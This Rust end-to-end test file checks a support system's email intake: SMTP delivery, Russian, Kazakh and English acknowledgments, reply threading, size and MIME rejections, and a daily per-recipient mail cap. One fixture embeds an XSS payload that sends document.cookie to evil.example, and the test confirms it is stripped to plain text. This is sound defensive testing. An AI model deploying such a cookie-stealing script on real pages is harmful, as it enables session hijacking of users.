//! The email channel over a real SMTP relay ([`komek_e2e::mail::Relay`], aiosmtpd started per
//! test on a free port), and the test speaking SMTP to intake's listener as a customer's mail
//! server would.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use komek_e2e::{free_port, mail, poll_json};
use mail_parser::MessageParser;
use reqwest::StatusCode;
use serde_json::{Value, json};
use tokio::io::{AsyncBufReadExt, AsyncWriteExt, BufReader};
use tokio::net::TcpStream;

const CUSTOMER: &str = "aliya.serikova@mail.kz";
const MAX_BYTES: usize = 65_536;

fn max_bytes() -> Vec<(String, String)> {
    vec![("KOMEK__EMAIL__MAX_BYTES".into(), MAX_BYTES.to_string())]
}

/// A customer's mail server: one SMTP conversation handing `raw` to intake; the final reply.
async fn smtp_send(port: u16, from: &str, raw: &str) -> String {
    let s = TcpStream::connect(("127.0.0.1", port)).await.unwrap();
    let (r, mut w) = s.into_split();
    let mut r = BufReader::new(r);
    async fn answer(r: &mut BufReader<tokio::net::tcp::OwnedReadHalf>) -> String {
        let mut all = String::new();
        loop {
            let mut line = String::new();
            r.read_line(&mut line).await.unwrap();
            all.push_str(&line);
            // A multi-line reply goes on while the fourth character is '-'.
            if line.len() < 4 || line.as_bytes()[3] != b'-' {
                return all.trim_end().to_owned();
            }
        }
    }
    let greeting = answer(&mut r).await;
    assert!(greeting.starts_with("220 "), "{greeting}");
    for (cmd, want) in [
        ("EHLO mail.kz".to_owned(), "250"),
        (format!("MAIL FROM:<{from}>"), "250"),
        ("RCPT TO:<support@komek.kz>".to_owned(), "250"),
        ("DATA".to_owned(), "354"),
    ] {
        w.write_all(format!("{cmd}\r\n").as_bytes()).await.unwrap();
        let got = answer(&mut r).await;
        assert!(got.starts_with(want), "{cmd}: {got}");
        if cmd == "EHLO mail.kz" {
            assert!(got.contains(&format!("SIZE {MAX_BYTES}")), "{got}");
        }
    }
    // Dot-stuffing, CRLF line ends.
    let mut body = String::new();
    for line in raw.replace("\r\n", "\n").split('\n') {
        if line.starts_with('.') {
            body.push('.');
        }
        body.push_str(line);
        body.push_str("\r\n");
    }
    body.push_str(".\r\n");
    w.write_all(body.as_bytes()).await.unwrap();
    let last = answer(&mut r).await;
    w.write_all(b"QUIT\r\n").await.unwrap();
    let bye = answer(&mut r).await;
    assert!(bye.starts_with("221"), "{bye}");
    last
}

fn b64(s: &str) -> String {
    const T: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let b = s.as_bytes();
    let mut out = String::new();
    for c in b.chunks(3) {
        let n = (u32::from(c[0]) << 16)
            | (u32::from(*c.get(1).unwrap_or(&0)) << 8)
            | u32::from(*c.get(2).unwrap_or(&0));
        for i in 0..4 {
            if i <= c.len() {
                out.push(T[(n >> (18 - 6 * i) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

/// RFC 2047 encoded word.
fn word(s: &str) -> String {
    format!("=?UTF-8?B?{}?=", b64(s))
}

async fn email_requests(store: &komek_store::Store) -> Vec<String> {
    let mut c = store.conn();
    redis::AsyncCommands::zrange(&mut c, store.keys().ix_channel("email"), 0, -1)
        .await
        .unwrap_or_default()
}

/// A Russian mail becomes an `email` request; its Russian acknowledgment reaches the relay with
/// the number in the subject and the thread's Message-ID; an agent's reply answers that thread;
/// the customer's reply (In-Reply-To, a quoted block) lands on the same request without the quote;
/// an HTML-only mail with a script becomes safe text; an oversized mail gets 552 and broken MIME
/// 554, with nothing written.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn email_in_and_out_through_a_real_relay() {
    let smtp_port = free_port();
    let (mesh, relay, store) = mail::mesh("email", smtp_port, max_bytes()).await;
    let http = reqwest::Client::new();

    // The customer writes in Russian.
    let text = "Здравствуйте! Второй день не работает мобильный интернет, помогите, пожалуйста.";
    let raw = format!(
        "From: {} <{CUSTOMER}>\r\nTo: Komek <support@komek.kz>\r\nSubject: {}\r\n\
         Message-ID: <first.1@mail.kz>\r\nMIME-Version: 1.0\r\n\
         Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n{text}\r\n",
        word("Алия Серикова"),
        word("Не работает интернет"),
    );
    let answer = smtp_send(smtp_port, CUSTOMER, &raw).await;
    assert!(answer.starts_with("250 "), "{answer}");
    let ids = email_requests(&store).await;
    assert_eq!(ids.len(), 1, "stored before the 250");
    let id = ids[0].clone();
    let request = store.request(id.parse().unwrap()).await.unwrap().unwrap();
    assert_eq!(request.customer.email.as_ref().unwrap().as_str(), CUSTOMER);
    assert_eq!(request.customer.name.as_deref(), Some("Алия Серикова"));
    assert_eq!(request.subject.as_deref(), Some("Не работает интернет"));
    assert_eq!(request.language.as_str(), "ru");
    assert_eq!(request.text, text);
    let number = request.number.0.clone();
    // The same answer whatever a mail becomes: it names no request (docs/security.md, finding 4).
    assert_eq!(answer, "250 2.0.0 message accepted");

    // The same mail again (the sender lost our answer): no second request.
    let again = smtp_send(smtp_port, CUSTOMER, &raw).await;
    assert!(again.starts_with("250 "), "{again}");
    assert_eq!(email_requests(&store).await.len(), 1);

    // The acknowledgment reaches the relay: Russian, numbered, opening the thread.
    let ack_raw = relay
        .wait_for("the acknowledgment reaches the relay", &number)
        .await;
    let ack = MessageParser::default().parse(&ack_raw).unwrap();
    assert_eq!(
        ack.subject().unwrap(),
        format!("[{number}] Ваше обращение принято")
    );
    assert_eq!(ack.to().unwrap().first().unwrap().address(), Some(CUSTOMER));
    // The thread id carries its token: `{request id}.{32 hex digits}@komek`.
    let thread = ack.message_id().unwrap().to_owned();
    let token = thread
        .strip_prefix(&format!("{id}."))
        .and_then(|t| t.strip_suffix("@komek"))
        .unwrap_or_else(|| panic!("{thread}"));
    assert!(
        token.len() == 32 && token.bytes().all(|b| b.is_ascii_hexdigit()),
        "{thread}"
    );
    let body = ack.body_text(0).unwrap();
    assert!(body.contains(&request.messages[0].text), "{body}");
    assert!(body.contains("ответьте на это письмо"), "{body}");
    // It carries a status link of its own, which opens the request (docs/security.md, 1).
    let link = body
        .split_whitespace()
        .find(|w| w.contains("/status/t/"))
        .unwrap_or_else(|| panic!("no status link in {body}"));
    let page = http.get(link).send().await.unwrap();
    assert_eq!(page.status(), StatusCode::OK, "{link}");
    assert!(page.text().await.unwrap().contains(&number), "{link}");

    // Its history says so.
    let agent = mesh.login(&http, "aigerim", "komek-agent").await;
    let view_url = mesh.url("workspace", &format!("/api/v1/requests/{id}"));
    let line = poll_json(
        &http,
        &view_url,
        Some(&agent),
        "history has notified",
        |v| {
            v["history"]
                .as_array()?
                .iter()
                .find(|h| h["action"] == "notified")
                .cloned()
        },
    )
    .await;
    let detail = line["detail"].as_str().unwrap();
    assert!(detail.contains("email to ****l.kz"), "{detail}");

    // An agent's reply goes out in the same thread.
    let taken = mesh.take_next(&http, &agent).await;
    assert_eq!(taken["id"], id.as_str());
    let reply = "Перезагрузите, пожалуйста, телефон и напишите, помогло ли.";
    let r = http
        .post(mesh.url("workspace", &format!("/api/v1/requests/{id}/replies")))
        .bearer_auth(&agent)
        .json(&json!({ "text": reply }))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::OK);
    let reply_raw = relay
        .wait_for("the reply reaches the relay", "Ответ по вашему обращению")
        .await;
    let sent = MessageParser::default().parse(&reply_raw).unwrap();
    assert_eq!(sent.in_reply_to().as_text(), Some(thread.as_str()));
    assert_eq!(sent.references().as_text(), Some(thread.as_str()));
    assert_ne!(sent.message_id(), Some(thread.as_str()));
    assert!(sent.body_text(0).unwrap().contains(reply));

    // The customer answers that mail, quoting it.
    let answer_text = "Перезагрузил, не помогло.";
    let raw = format!(
        "From: {CUSTOMER}\r\nTo: support@komek.kz\r\nSubject: Re: {}\r\n\
         Message-ID: <second.2@mail.kz>\r\nIn-Reply-To: <{}>\r\nReferences: <{thread}> <{}>\r\n\
         Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n\
         {answer_text}\r\n\r\nВ пн, 1 дек. 2026 г. в 10:00, Komek <support@komek.kz> написал(а):\r\n\
         > {reply}\r\n.a line starting with a dot\r\n",
        word(sent.subject().unwrap()),
        sent.message_id().unwrap(),
        sent.message_id().unwrap(),
    );
    let added = smtp_send(smtp_port, CUSTOMER, &raw).await;
    assert_eq!(added, "250 2.0.0 message accepted");
    let view = poll_json(
        &http,
        &view_url,
        Some(&agent),
        "the agent sees the customer's answer",
        |v: &Value| {
            v["request"]["messages"]
                .as_array()?
                .iter()
                .find(|m| m["kind"] == "customer")
                .map(|_| v.clone())
        },
    )
    .await;
    let customer: Vec<&Value> = view["request"]["messages"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|m| m["kind"] == "customer")
        .collect();
    assert_eq!(customer.len(), 1);
    assert_eq!(
        customer[0]["text"], answer_text,
        "without the quoted history"
    );
    assert_eq!(email_requests(&store).await.len(), 1, "no new request");

    // An HTML-only mail with a script: safe text.
    let raw = "From: Bob <bob@mail.kz>\r\nTo: support@komek.kz\r\nSubject: Roaming\r\n\
         Content-Type: text/html; charset=utf-8\r\n\r\n\
         <html><head><style>p { color: red }</style></head><body>\
         <p>Roaming does not work in <b>Tashkent</b> &amp; Bishkek.</p>\
         <script>document.location='http://evil.example/?c='+document.cookie</script>\
         <p onclick=\"alert(1)\">Please help.</p></body></html>\r\n"
        .to_owned();
    let answer = smtp_send(smtp_port, "bob@mail.kz", &raw).await;
    assert!(answer.starts_with("250 "), "{answer}");
    let ids = email_requests(&store).await;
    assert_eq!(ids.len(), 2);
    let html_id = ids.iter().find(|i| **i != id).unwrap();
    let html = store
        .request(html_id.parse().unwrap())
        .await
        .unwrap()
        .unwrap();
    assert_eq!(
        html.text,
        "Roaming does not work in Tashkent & Bishkek.\n\nPlease help."
    );
    assert_eq!(html.language.as_str(), "en");

    // Oversized: 552, nothing written. Broken MIME and attachments: 554 with the reason.
    let big = format!(
        "From: {CUSTOMER}\r\nSubject: big\r\n\r\n{}\r\n",
        "x".repeat(MAX_BYTES + 1)
    );
    let answer = smtp_send(smtp_port, CUSTOMER, &big).await;
    assert!(answer.starts_with("552 "), "{answer}");
    let broken =
        "From: a@mail.kz\r\nSubject: x\r\nContent-Type: multipart/mixed\r\n\r\n--b\r\n\r\nhi\r\n";
    let answer = smtp_send(smtp_port, "a@mail.kz", broken).await;
    assert!(
        answer.starts_with("554 ") && answer.contains("boundary"),
        "{answer}"
    );
    let attached = "From: a@mail.kz\r\nSubject: x\r\nContent-Type: multipart/mixed; boundary=\"b\"\r\n\r\n\
        --b\r\nContent-Type: text/plain\r\n\r\nsee the file\r\n--b\r\nContent-Type: application/pdf\r\n\
        Content-Disposition: attachment; filename=a.pdf\r\nContent-Transfer-Encoding: base64\r\n\r\nJVBERi0=\r\n--b--\r\n";
    let answer = smtp_send(smtp_port, "a@mail.kz", attached).await;
    assert!(
        answer.starts_with("554 ") && answer.contains("attachments"),
        "{answer}"
    );
    assert_eq!(
        email_requests(&store).await.len(),
        2,
        "nothing half-written"
    );
    let log = mesh.log("intake");
    assert!(log.contains("inbound mail refused"), "refusals are logged");

    drop(relay);
    mesh.finish().await;
}

#[test]
fn base64_of_utf8() {
    assert_eq!(b64("Алия"), "0JDQu9C40Y8=");
    assert_eq!(b64("ab"), "YWI=");
}

/// One inbound mail in `text` from `from` to a mesh with a relay of its own: the request is in
/// `language`, and the acknowledgment arrives at the relay with the number and `subject` in its
/// subject line and the stored acknowledgment in its body.
async fn acknowledged_in(tag: &'static str, from: &str, text: &str, language: &str, subject: &str) {
    let smtp_port = free_port();
    let (mesh, relay, store) = mail::mesh(tag, smtp_port, max_bytes()).await;
    let raw = format!(
        "From: <{from}>\r\nTo: Komek <support@komek.kz>\r\nSubject: {}\r\nMessage-ID: <{tag}.1@mail.kz>\r\n\
         MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n{text}\r\n",
        word("Komek"),
    );
    let sent = std::time::Instant::now();
    let answer = smtp_send(smtp_port, from, &raw).await;
    assert!(answer.starts_with("250 "), "{answer}");
    let ids = email_requests(&store).await;
    let request = store
        .request(ids[0].parse().unwrap())
        .await
        .unwrap()
        .unwrap();
    assert_eq!(request.language.as_str(), language);
    let number = request.number.0.clone();
    let ack = MessageParser::default()
        .parse(
            &relay
                .wait_for("the acknowledgment reaches the relay", &number)
                .await,
        )
        .map(|m| {
            (
                m.subject().unwrap_or_default().to_owned(),
                m.body_text(0).unwrap_or_default().into_owned(),
            )
        })
        .unwrap();
    // A figure for the notes, not an assertion: mail in → request → acknowledgment at the relay.
    eprintln!(
        "email {language}: mail to acknowledgment at the relay in {} ms",
        sent.elapsed().as_millis()
    );
    assert_eq!(ack.0, format!("[{number}] {subject}"));
    assert!(ack.1.contains(&request.messages[0].text), "{}", ack.1);
    drop(relay);
    mesh.finish().await;
}

/// A Kazakh mail is acknowledged by mail in Kazakh.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_kazakh_mail_is_acknowledged_in_kazakh() {
    acknowledged_in(
        "mail-kk",
        "asqar@mail.kz",
        "Сәлеметсіз бе! Мобильді интернет екі күннен бері жұмыс істемейді.",
        "kk",
        "Өтінішіңіз қабылданды",
    )
    .await;
}

/// An English mail is acknowledged by mail in English.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_english_mail_is_acknowledged_in_english() {
    acknowledged_in(
        "mail-en",
        "john@mail.kz",
        "Hello, my mobile internet has not worked for two days.",
        "en",
        "Your request is received",
    )
    .await;
}

/// Finding 3 (mail bombing): at most `email.daily_per_recipient` mails to one address a day. With
/// a cap of 2, three requests posted with one email address get two acknowledgments; the third is
/// not sent, its history says why (`notification_failed`), and the drop is counted.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn mail_to_one_address_is_capped_per_day() {
    let (mesh, relay, store) = mail::mesh(
        "mail-cap",
        free_port(),
        vec![("KOMEK__EMAIL__DAILY_PER_RECIPIENT".into(), "2".into())],
    )
    .await;
    let http = reqwest::Client::new();
    let victim = "victim@mail.kz";
    let mut ids = Vec::new();
    for text in [
        "Не работает интернет",
        "Пропали деньги с баланса",
        "Не могу позвонить",
    ] {
        let created = mesh
            .post_request(
                &http,
                &json!({"channel": "web", "customer": {"email": victim}, "text": text}),
            )
            .await;
        ids.push(created["id"].as_str().unwrap().to_owned());
    }
    let agent = mesh.login(&http, "aigerim", "komek-agent").await;
    let mut outcomes = Vec::new();
    for id in &ids {
        let url = mesh.url("workspace", &format!("/api/v1/requests/{id}"));
        let line = poll_json(&http, &url, Some(&agent), "the notifier's outcome", |v| {
            v["history"]
                .as_array()?
                .iter()
                .find(|h| h["action"] == "notified" || h["action"] == "notification_failed")
                .cloned()
        })
        .await;
        outcomes.push(line);
    }
    let failed: Vec<&Value> = outcomes
        .iter()
        .filter(|h| h["action"] == "notification_failed")
        .collect();
    assert_eq!(failed.len(), 1, "{outcomes:?}");
    let detail = failed[0]["detail"].as_str().unwrap();
    assert!(
        detail.contains("email.daily_per_recipient reached today"),
        "{detail}"
    );
    assert!(!detail.contains(victim), "masked: {detail}");
    let to_victim = || {
        relay
            .received()
            .iter()
            .filter_map(|raw| MessageParser::default().parse(raw))
            .filter(|m| {
                m.to()
                    .and_then(|t| t.first())
                    .and_then(|a| a.address())
                    .is_some_and(|a| a == victim)
            })
            .count()
    };
    komek_testkit::eventually(komek_e2e::WAIT, "two acknowledgments at the relay", || {
        let n = to_victim();
        async move { (n >= 2).then_some(()) }
    })
    .await;
    assert_eq!(to_victim(), 2, "the third was not sent");
    let metrics = http
        .get(mesh.url("intake", "/metrics"))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(
        metrics.contains(
            "komek_notifications_dropped_total{channel=\"email\",reason=\"daily_cap\"} 1"
        ),
        "{metrics}"
    );
    drop((relay, store));
    mesh.finish().await;
}
